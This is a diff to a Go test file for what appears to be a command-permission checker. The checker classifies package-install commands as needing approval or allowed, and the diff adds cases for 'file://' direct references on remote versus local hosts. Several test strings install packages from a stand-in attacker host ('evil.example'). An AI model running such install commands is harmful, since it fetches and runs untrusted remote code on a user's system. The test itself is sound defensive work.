@@ -231,6 +231,9 @@ func TestRemoteRunOtherVerbs(t *testing.T) {
 		{"uv add git+https://github.com/a/b", Ask},
 		{"uv add --index https://evil.example/simple x", Ask},
 		{"uv add requests 'x @ https://evil.example/x.tar.gz'", Ask},
+		// A file: direct reference of another host is no local path.
+		{"uv add 'x @ file://evil.example/share/x.whl'", Ask},
+		{"pip install 'x @ file://evil.example/x'", Ask},
 		{"poetry add git+https://github.com/a/b", Ask},
 		{"pdm add git+https://github.com/a/b", Ask},
 		{"bundle add y --git https://github.com/a/b", Ask},
@@ -273,6 +276,14 @@ func TestRemoteRunOtherVerbs(t *testing.T) {
 		{"pip download https://example.com/x-1.0-py3-none-any.whl", Allow},
 		{"uv add requests", Allow},
 		{"uv add --dev pytest", Allow},
+		// Issue 12: a PEP 508 direct reference to a file on this machine
+		// is read where it is, as uv add ./libs/mylib is.
+		{"uv add 'mylib @ file:///home/u/proj/libs/mylib'", Allow},
+		{"uv add 'mylib[cli] @ file://localhost/opt/wheels/mylib-1.0-py3-none-any.whl'", Allow},
+		{"poetry add 'x @ file:///opt/x'", Allow},
+		{"pip install 'x @ file:///tmp/x'", Allow},
+		{"uv pip install 'x@file:///tmp/x.whl'", Allow},
+		{"pip install file:///tmp/x", Allow},
 		{"poetry add requests@^2.31", Allow},
 		{"pdm add -e ./libs/x", Allow},
 		{"bundle add rails", Allow},
